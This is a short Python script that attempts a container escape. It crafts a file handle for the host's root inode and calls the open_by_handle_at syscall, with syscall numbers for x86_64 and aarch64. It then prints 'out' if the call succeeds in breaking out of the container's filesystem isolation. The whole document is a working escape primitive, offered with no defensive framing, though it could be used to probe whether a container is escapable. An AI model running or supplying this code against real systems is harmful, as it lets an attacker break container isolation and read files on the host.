"""Open a file of the host by its inode number (the way out of many containers)."""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02" + bytes(200))
number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
root = os.open("/usr", os.O_RDONLY)
print("contained" if libc.syscall(number, root, handle, 0) == -1 and ctypes.get_errno() == 1 else "out")
